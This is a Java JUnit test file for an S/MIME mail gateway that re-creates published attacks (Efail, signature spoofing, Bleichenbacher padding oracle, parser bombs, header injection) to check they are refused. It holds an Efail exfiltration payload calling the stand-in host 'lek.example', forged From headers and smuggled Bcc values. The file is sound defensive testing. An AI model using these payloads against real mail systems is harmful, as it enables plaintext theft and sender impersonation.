package nl.wotpoort.smime;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.security.SecureRandom;
import java.security.interfaces.RSAPublicKey;
import java.util.Arrays;
import java.util.Base64;
import java.util.HashSet;
import java.util.Map;
import java.util.Set;
import javax.crypto.Cipher;
import nl.wotpoort.letter.Bytes;
import org.assertj.core.api.Assertions;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** The published attacks on encrypted and signed mail, re-made. */
class AttacksTest {

  private static final String GP = "gp/a.devries";

  private static String honest() {
    return Forge.encrypted(Forge.signed(Forge.wrapped(Forge.innerHeader()), GP));
  }

  @Test
  void theHonestMailTheAttacksStartFromOpens() {
    assertThat(Forge.verdict(honest())).isEqualTo("ACCEPT");
  }

  /** Poddebniak et al., USENIX Security 2018. */
  @Nested
  class Efail {

    @Test
    void directExfiltrationAroundTheCiphertext() {
      String mail = honest();
      int body = mail.indexOf("MIME-Version:");
      String head = mail.substring(0, body);
      String before =
          """
          MIME-Version: 1.0
          Content-Type: multipart/mixed; boundary=b

          --b
          Content-Type: text/html

          <img src="http://lek.example/
          --b
          """;
      String mixed =
          head
              + Forge.crlf(before)
              + mail.substring(body + "MIME-Version: 1.0\r\n".length())
              + "--b\r\nContent-Type: text/html\r\n\r\n\">\r\n--b--\r\n";

      assertThat(Forge.verdict(mixed)).isEqualTo("partially-encrypted");
    }

    @Test
    void cbcGadgetInTheFirstBlocksNeverYieldsContent() {
      byte[] der = derOf(honest());
      int content = der.length / 2;
      Set<String> verdicts = new HashSet<>();
      for (int i = 0; i < 48; i++) {
        byte[] changed = der.clone();
        changed[content + i] ^= 0x20;
        verdicts.add(Forge.verdict(withDer(honest(), changed)));
      }
      assertThat(verdicts).doesNotContain("ACCEPT");
    }

    @Test
    void gcmCiphertextTurnedIntoCbcIsRefused() {
      String gcm =
          Forge.encrypted(
              Forge.signed(Forge.wrapped(Forge.innerHeader()), GP), Recipient.Cipher.AES_256_GCM);
      byte[] der = derOf(gcm);
      byte[] from = Der.oid(Oids.AES256_GCM);
      byte[] to = Der.oid(Oids.AES256_CBC);
      System.arraycopy(to, 0, der, indexOf(der, from), to.length);

      assertThat(Forge.verdict(withDer(gcm, der))).isEqualTo("weak-algorithm");
    }

    @Test
    void ciphertextOfSomebodyElsesMailInsideAnOwnSignedMailIsNotOpened() {
      String quoted =
          Forge.crlf("Content-Type: multipart/mixed; boundary=q\n\n--q\n")
              + honest()
              + "\r\n--q--\r\n";
      String mail = Forge.encrypted(Forge.signed(quoted, GP));
      Opened.Trusted opened = SealAndOpenTest.trusted(Forge.open(mail));

      assertThat(opened.content().entity()).isEqualTo(Bytes.of(quoted, StandardCharsets.UTF_8));
    }
  }

  /** Müller et al., "Johnny, you are fired!", USENIX Security 2019. */
  @Nested
  class JohnnyYouAreFired {

    @Test
    void signedPartBelowAnUnsignedRoot() {
      String signed = Forge.signed(Forge.wrapped(Forge.innerHeader()), GP);
      String root =
          Forge.crlf("Content-Type: multipart/mixed; boundary=m\n\n--m\n\nvals\n--m\n")
              + signed
              + "\r\n--m--\r\n";

      assertThat(Forge.verdict(Forge.encrypted(root))).isEqualTo("partially-signed");
    }

    @Test
    void unsignedThirdPartInMultipartSigned() {
      String signed = Forge.signed(Forge.wrapped(Forge.innerHeader()), GP);
      int last = signed.lastIndexOf("\r\n--");
      String boundary = signed.substring(last, signed.length() - 4);
      String more = signed.substring(0, last) + boundary + "\r\n\r\nvals" + signed.substring(last);

      assertThat(Forge.verdict(Forge.encrypted(more))).isEqualTo("partially-signed");
    }

    @Test
    void signatureWithoutAnySigner() {
      String signed = Forge.signed(Forge.wrapped(Forge.innerHeader()), GP);
      String boundary = signed.substring(signed.lastIndexOf("\r\n--"), signed.length() - 4);
      int at = signed.indexOf("smime.p7s\r\n\r\n") + 13;
      byte[] empty =
          Der.sequence(
              Der.oid(Oids.SIGNED_DATA),
              Der.value(
                  0xA0,
                  Der.sequence(
                      Der.integer(1),
                      Der.value(Asn1.SET),
                      Der.sequence(Der.oid(Oids.DATA)),
                      Der.value(Asn1.SET))));
      String none =
          signed.substring(0, at) + Base64.getEncoder().encodeToString(empty) + boundary + "--\r\n";

      assertThat(Forge.verdict(Forge.encrypted(none))).isEqualTo("not-signed");
    }

    @Test
    void opaqueSignatureInsideADetachedOne() {
      String twice = Forge.signed(Forge.signed(Forge.wrapped(Forge.innerHeader()), GP), GP);

      assertThat(Forge.verdict(Forge.encrypted(twice))).isEqualTo("malformed");
    }

    @Test
    void encryptedTwice() {
      String inner = honest();
      String entity = inner.substring(inner.indexOf("Content-Type:"));

      assertThat(Forge.verdict(Forge.encrypted(entity))).isEqualTo("malformed");
    }

    @Test
    void signedOutsideEncryptedInside() {
      String inner = honest();
      String entity = inner.substring(inner.indexOf("Content-Type:"));
      String outside =
          inner.substring(0, inner.indexOf("MIME-Version:")) + Forge.signed(entity, GP);

      assertThat(Forge.verdict(outside)).isNotEqualTo("ACCEPT");
    }

    @ParameterizedTest
    @ValueSource(
        strings = {
          "From: a.devries@praktijk-delinde.example\nFrom: b.smit@praktijk-delinde.example\n",
          "From: \"b.smit@praktijk-delinde.example\" <a.devries@praktijk-delinde.example>\n",
          "From: =?utf-8?q?b.smit=40praktijk-delinde.example?= <a.devries@praktijk-delinde.example>\n",
          "From: =?utf-8?b?Yi5zbWl0QHByYWt0aWpr?= <a.devries@praktijk-delinde.example>\n",
          "From: =?utf-7?q?b.smit+AEA-praktijk?= <a.devries@praktijk-delinde.example>\n",
          "From: b.smit＠praktijk.nl <a.devries@praktijk-delinde.example>\n",
          "From: b.smit@praktijk-delinde.example <a.devries@praktijk-delinde.example>\n",
          "From: a.devries@praktijk-delinde.example, b.smit@praktijk-delinde.example\n",
          "From: b.smit@praktijk-delinde.example\n",
          "From: <a.devries@praktijk-delinde.example>@lek.example\n",
          "From: b.smit@praktijk-delinde.example (a.devries@praktijk-delinde.example)\n",
          "From: \"a.devries@praktijk-delinde.example\"@lek.example\n",
          "From: b.smit <b.smit@praktijk-delinde.example> <a.devries@praktijk-delinde.example>\n",
          "From: a.devries@praktijk-delinde.example\nSender: b.smit@praktijk-delinde.example\n",
          "From: gp: a.devries@praktijk-delinde.example, x@lek.example;\n",
          "From: a.devries@praktijk-delinde.example\u0000.lek.example\n",
          "From: x <a.devries@praktijk-delinde.example\n",
          "To: oost@wotschiedam.nl\n",
        })
    void identityShownIsNotTheSigners(String innerFrom) {
      String inner = Forge.wrapped(innerFrom + "Subject: Vraag\n");

      assertThat(Forge.verdict(Forge.encrypted(Forge.signed(inner, GP)))).isNotEqualTo("ACCEPT");
    }

    @Test
    void signersOwnAddressAsDisplayNameIsHonest() {
      String inner =
          Forge.wrapped(
              "From: \"a.devries@praktijk-delinde.example\" <a.devries@praktijk-delinde.example>\n");

      assertThat(Forge.verdict(Forge.encrypted(Forge.signed(inner, GP)))).isEqualTo("ACCEPT");
    }

    @Test
    void replyToThatTheSignerDidNotSign() {
      String mail =
          honest().replace("Subject: [...]", "Reply-To: post@lek.example\r\nSubject: [...]");

      assertThat(Forge.verdict(mail)).isEqualTo("header-mismatch");
    }
  }

  /** Bleichenbacher 1998, and its heirs: nothing tells one failure from another. */
  @Nested
  class BleichenbacherOracle {

    private final KeyEntry key = SamplePki.keys("gateway/oost").get(0);
    private final RSAPublicKey publicKey =
        (RSAPublicKey) SamplePki.certificate("gateway/oost").getPublicKey();

    @Test
    void goodPaddingGivesTheKey() throws Exception {
      byte[] secret = new byte[32];
      Arrays.fill(secret, (byte) 7);
      byte[] padded = padded(secret);

      assertThat(KeyTransport.pkcs1(key, raw(padded), 32, new SecureRandom())).isEqualTo(secret);
    }

    @ParameterizedTest
    @ValueSource(ints = {0, 1, 2, 100, 223})
    void anyWrongByteOfThePaddingGivesARandomKey(int at) throws Exception {
      byte[] padded = padded(new byte[32]);
      padded[at] = at == 223 ? (byte) 1 : at == 1 ? (byte) 1 : at == 0 ? (byte) 0x10 : 0;

      byte[] first = KeyTransport.pkcs1(key, raw(padded), 32, new SecureRandom());
      byte[] second = KeyTransport.pkcs1(key, raw(padded), 32, new SecureRandom());

      assertThat(first).hasSize(32).isNotEqualTo(new byte[32]).isNotEqualTo(second);
    }

    @Test
    void everyFailureHasOneFace() throws Exception {
      Set<String> faces = new HashSet<>();
      byte[] good = derOf(honest());
      int keyAt = indexOf(good, new byte[] {0x04, (byte) 0x82, 0x01, 0x00}) + 4;
      byte[][] encryptedKeys = {
        raw(padded(new byte[32])), raw(padded(new byte[16])), raw(new byte[256]), new byte[256]
      };
      for (byte[] encryptedKey : encryptedKeys) {
        byte[] der = good.clone();
        System.arraycopy(encryptedKey, 0, der, keyAt, 256);
        faces.add(face(withDer(honest(), der)));
      }
      byte[] content = good.clone();
      content[content.length - 20] ^= 1;
      faces.add(face(withDer(honest(), content)));

      assertThat(faces).containsExactly("undecryptable no key of this mailbox opens the content");
    }

    private String face(String mail) {
      return Forge.open(mail).fold(t -> "ACCEPT", r -> r.finding().code() + " " + r.detail());
    }

    private byte[] padded(byte[] secret) {
      byte[] padded = new byte[256];
      Arrays.fill(padded, (byte) 0x55);
      padded[0] = 0;
      padded[1] = 2;
      padded[255 - secret.length] = 0;
      System.arraycopy(secret, 0, padded, 256 - secret.length, secret.length);
      return padded;
    }

    private byte[] raw(byte[] padded) throws Exception {
      Cipher rsa = Cipher.getInstance("RSA/ECB/NoPadding");
      rsa.init(Cipher.ENCRYPT_MODE, publicKey);
      return rsa.doFinal(padded);
    }
  }

  @Nested
  class ParserBombs {

    @Test
    void nestedIndefiniteAsn1() {
      byte[] bomb = new byte[200_000];
      for (int i = 0; i < bomb.length; i += 2) {
        bomb[i] = 0x30;
        bomb[i + 1] = (byte) 0x80;
      }
      assertThat(Forge.verdict(withDer(honest(), bomb))).isEqualTo("too-large");
    }

    @Test
    void aMillionHeaderFields() {
      assertThat(Forge.verdict("X: y\r\n".repeat(1_000_000))).isEqualTo("too-large");
    }

    @Test
    void oneHeaderOfMegabytes() {
      assertThat(Forge.verdict("From: " + "a".repeat(5_000_000))).isEqualTo("too-large");
    }

    @Test
    void aThousandNestedMultiparts() {
      StringBuilder mail = new StringBuilder("From: a@b.nl\r\n");
      for (int i = 0; i < 1000; i++) {
        mail.append("Content-Type: multipart/mixed; boundary=b").append(i).append("\r\n\r\n--b");
        mail.append(i).append("\r\n");
      }
      assertThat(Forge.verdict(mail.toString())).isEqualTo("not-encrypted");
    }

    @Test
    void aLengthBeyondTheEnd() {
      byte[] der = {0x30, (byte) 0x84, 0x7f, (byte) 0xff, (byte) 0xff, (byte) 0xff, 0x06, 0x01};
      assertThat(Forge.verdict(withDer(honest(), der))).isEqualTo("malformed");
    }

    @Test
    void aMailAboveTheLimitIsNotEvenLookedAt() {
      EnvelopeOpener small =
          EnvelopeOpener.of(
              KeyRing.of(Map.of()),
              SamplePki.trust(),
              AlgorithmPolicy.defaults(),
              Limits.defaults().withMessageBytes(100),
              HeaderRules.defaults());
      Opened opened = small.open(Bytes.wrap(new byte[101]), SamplePki.OOST, SamplePki.NOW);

      assertThat(opened.<Object>fold(t -> t, Opened.Refused::finding)).isEqualTo(Finding.TOO_LARGE);
    }

    @Test
    void everyTruncationOfAnHonestMailEndsAsAFinding() {
      String mail = honest();
      EnvelopeOpener opener = SamplePki.opener();
      for (int length = 0; length < mail.length() - 3; length += 37) {
        Bytes cut = Bytes.of(mail.substring(0, length), StandardCharsets.UTF_8);
        Opened opened = opener.open(cut, SamplePki.OOST, SamplePki.NOW);
        assertThat(opened).isInstanceOf(Opened.Refused.class);
      }
    }
  }

  @Nested
  class HeaderInjection {

    @ParameterizedTest
    @ValueSource(
        strings = {"a\r\nBcc: x@lek.example", "a\nb", "a\rb", "a\u0000b", "caf\u00e9", "a\u2028b"})
    void subjectWithLineEndsIsNotAccepted(String subject) {
      Assertions.assertThatThrownBy(
              () -> OuterHead.of(SamplePki.GP, SamplePki.OOST, SamplePki.NOW, "<1@x.nl>", subject))
          .isInstanceOf(IllegalArgumentException.class);
    }

    @ParameterizedTest
    @ValueSource(strings = {"1@x.nl", "<1@x.nl>\r\nX: y", "<1 @x.nl>", "<1@x.nl> <2@x.nl>", "<>"})
    void messageIdThatIsNone(String id) {
      assertThat(OuterHead.isMessageId(id)).isFalse();
    }

    @Test
    void bareCarriageReturnInAHeaderIsMalformed() {
      assertThat(Forge.verdict("From: a@b.nl\rBcc: c@d.nl\r\n\r\n")).isEqualTo("malformed");
    }

    @Test
    void camelHeadersOfTheSenderAreJustHeaders() {
      String mail =
          honest()
              .replace(
                  "MIME-Version:", "CamelFileName: x\r\norg.apache.camel.y: z\r\nMIME-Version:");
      assertThat(Forge.verdict(mail)).isEqualTo("ACCEPT");
    }
  }

  private static byte[] derOf(String mail) {
    String body = mail.substring(mail.indexOf("\r\n\r\n") + 4);
    return Base64.getMimeDecoder().decode(body);
  }

  private static String withDer(String mail, byte[] der) {
    return mail.substring(0, mail.indexOf("\r\n\r\n") + 4)
        + Base64.getMimeEncoder().encodeToString(der)
        + "\r\n";
  }

  private static int indexOf(byte[] all, byte[] part) {
    for (int i = 0; i + part.length <= all.length; i++) {
      if (Arrays.equals(all, i, i + part.length, part, 0, part.length)) {
        return i;
      }
    }
    throw new AssertionError("not there");
  }
}
